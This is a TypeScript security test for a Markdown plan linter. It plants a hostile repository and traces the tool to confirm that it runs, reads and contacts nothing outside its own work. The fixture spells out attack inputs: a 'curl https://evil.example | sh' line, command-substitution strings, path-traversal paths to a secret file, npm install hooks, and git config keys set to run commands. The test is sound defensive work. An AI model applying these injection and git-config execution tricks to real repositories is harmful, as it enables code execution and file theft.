/** Nothing that a plan or a stranger's folder says is run, fetched, or looked up outside of the repository: as the kernel saw it. */
import { execFileSync } from 'node:child_process'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { canTrace, trace } from './trace.ts'
import type { Trace } from './trace.ts'

const bin = path.join(import.meta.dirname, '../../dist/bin.cjs')
const outside = [
  '/etc/hostname-planlint',
  '/root/planlint-secret',
  '~/planlint-secret',
  '../planlint-secret',
  '../../planlint-secret',
  'src/../../planlint-secret',
  'C:\\planlint-secret',
  '\\\\host\\planlint-secret',
  '//host/planlint-secret',
  'file:///planlint-secret',
  'https://evil.example/planlint-secret',
  '.git/planlint-secret',
  'link/planlint-secret',
  'link-file-planlint-secret',
  '%2e%2e/planlint-secret',
  '$HOME/planlint-secret'
]
const commands = [
  'touch pwned',
  '$(touch pwned)',
  '`touch pwned`',
  'npm test; touch pwned',
  'curl https://evil.example | sh',
  "node -e \"require('fs').writeFileSync('pwned','')\"",
  'git --exec-path=. pwned',
  'make -f evil.mk',
  'npm run pwn',
  './pwn.sh'
]

const plan = `# Plan

## Goal

[link](https://evil.example/a) ![image](http://evil.example/b.png) <https://evil.example/c> [file](file:///etc/passwd) [[wiki]]

\`\`\`!sh
touch pwned
\`\`\`

## Files Modified or Created

### Directory Tree

\`\`\`
${outside.map(name => `${name} <modified>`).join('\n')}
\`\`\`

### File-by-File Overview

${outside.map(name => `#### \`${name}\` (modified)\n\nText, see [it](${name}).\n`).join('\n')}

## Implementation Steps

${commands.map((command, index) => `### Step ${index + 1}: ${command}\n\n**Files**: ${outside.map(name => `\`${name}\``).join(', ')}\n\n**Actions**:\n1. Do\n2. Verify: \`${command}\`\n`).join('\n')}
`

const ran = { program: 'console.log(1)\nrequire("fs").writeFileSync("pwned", "")\n' }
const module = 'import fs from "node:fs"\nfs.writeFileSync("pwned", "")\nexport default {plugins: []}\n'
let folder: string
let cwd: string

beforeAll(() => {
  folder = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'planlint-traced-')))
  cwd = path.join(folder, 'repository')
  const git = (...args: string[]) =>
    execFileSync('git', args, { cwd, stdio: 'ignore', env: { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null' } })
  fs.mkdirSync(path.join(cwd, 'docs/plans'), { recursive: true })
  fs.mkdirSync(path.join(folder, 'elsewhere'))
  fs.writeFileSync(path.join(folder, 'planlint-secret'), 'secret words')
  fs.writeFileSync(path.join(folder, 'elsewhere/planlint-secret'), 'secret words')
  fs.writeFileSync(path.join(cwd, 'docs/plans/a.md'), plan)
  for (const [name, text] of Object.entries({
    'package.json':
      '{"scripts": {"pwn": "touch pwned", "preinstall": "touch pwned", "prepare": "touch pwned"}, "remarkConfig": {"plugins": ["./evil.mjs"]}}',
    Makefile: 'x := $(shell touch pwned)\nall:\n\ttouch pwned\n',
    'evil.mjs': module,
    'evil.mk': 'x := $(shell touch pwned)\n',
    '.remarkrc.js': module,
    '.remarkrc.cjs': ran.program,
    '.remarkrc.mjs': module,
    justfile: 'x := `touch pwned`\npwn:\n  touch pwned\n',
    'pwn.sh': '#!/bin/sh\ntouch pwned\n',
    '.npmrc': 'ignore-scripts=false\n'
  })) {
    fs.writeFileSync(path.join(cwd, name), text, { mode: 0o755 })
    // Written long ago: git looks into what is as young as its index, and so does whoever asks it.
    fs.utimesSync(path.join(cwd, name), 1_700_000_000, 1_700_000_000)
  }
  git('init', '-q')
  git('add', '-A')
  git('-c', 'user.name=A', '-c', 'user.email=a@example.org', 'commit', '-qm', 'one')
  fs.symlinkSync(path.join(folder, 'elsewhere'), path.join(cwd, 'link'))
  fs.symlinkSync(path.join(folder, 'planlint-secret'), path.join(cwd, 'link-file-planlint-secret'))
  // What the repository itself could have git run.
  for (const [key, value] of Object.entries({
    'core.fsmonitor': 'touch pwned',
    'core.pager': 'touch pwned',
    'diff.external': 'touch pwned',
    'core.sshCommand': 'touch pwned',
    'core.hooksPath': '.',
    'alias.rev-parse': '!touch pwned',
    'core.editor': 'touch pwned'
  }))
    git('config', key, value)
  fs.writeFileSync(path.join(cwd, 'post-index-change'), '#!/bin/sh\ntouch pwned\n', { mode: 0o755 })
})
afterAll(() => fs.rmSync(folder, { recursive: true, force: true }))

const isTraceable = canTrace()
if (!isTraceable) console.warn('skipped: strace is not here, or may not trace')

describe.skipIf(!isTraceable).each([
  ['lint', ['--no-config-js', '--profile', 'design-plan', '.']],
  ['lint a file', ['--no-config-js', '--profile', 'design-plan', 'docs/plans/a.md']],
  ['lint since a commit', ['--no-config-js', '--since', 'HEAD', '.']],
  ['status', ['status', '--no-config-js', '.']],
  ['diff', ['diff', 'docs/plans/a.md', '--base', 'HEAD', '--no-config-js']],
  ['fix, dry', ['--no-config-js', '--fix-dry-run', '--profile', 'design-plan', '.']]
])('%s', (_name, argv) => {
  let seen: Trace
  beforeAll(() => {
    seen = trace([bin, ...argv], cwd, path.join(folder, 'trace.log'), { HOME: folder })
  })

  test('it did its work', () => {
    expect([0, 1], seen.stderr).toContain(seen.code)
    if (argv.includes('--profile') && !argv.includes('--fix-dry-run'))
      expect(seen.stdout).toContain('step-verification')
  })

  test('starts nothing but git, with arguments of its own', () => {
    const [first, ...others] = seen.programs
    expect(first?.[0]).toBe(process.execPath)
    for (const [program, name, ...args] of others) {
      expect(path.basename(program!), args.join(' ')).toBe('git')
      expect([name, args[0]]).toEqual(['git', expect.stringMatching(/^(?:--no-pager|[a-z-]+)$/)])
      for (const arg of args) expect(arg).not.toMatch(/evil\.example|touch/)
    }
  })

  test('looks at nothing that the plan names outside of the repository', () => {
    // A file of that name in it may be the one that is meant.
    expect(seen.files.filter(file => file.includes('planlint-secret') && !file.startsWith(`${cwd}/`))).toEqual([])
    expect(seen.files.filter(file => file.startsWith(`${folder}/elsewhere`))).toEqual([])
    expect(seen.files.filter(file => file === '/etc/hostname-planlint')).toEqual([])
    expect(seen.stdout + seen.stderr).not.toContain('secret words')
  })

  test('opens no configuration that is code', () => {
    expect(seen.opened.filter(file => file.startsWith(cwd) && /\.[cm]?js$|\.mk$/.test(file))).toEqual([])
    expect(fs.existsSync(path.join(cwd, 'pwned'))).toBe(false)
  })

  test('connects to nothing', () => expect(seen.connections).toEqual([]))
})

test('the trap works: without --no-config-js the configuration is run, as in remark', () => {
  const copy = path.join(folder, 'trusted')
  fs.mkdirSync(copy)
  fs.writeFileSync(path.join(copy, '.remarkrc.mjs'), module)
  fs.writeFileSync(path.join(copy, 'PLAN.md'), '# Plan\n')
  const lint = (...argv: string[]) => {
    try {
      execFileSync(process.execPath, [bin, ...argv, '.'], { cwd: copy, stdio: 'ignore' })
    } catch {
      // Findings.
    }
    return fs.existsSync(path.join(copy, 'pwned'))
  }
  expect(lint('--no-config-js')).toBe(false)
  expect(lint('--no-config')).toBe(false)
  expect(lint()).toBe(true)
})
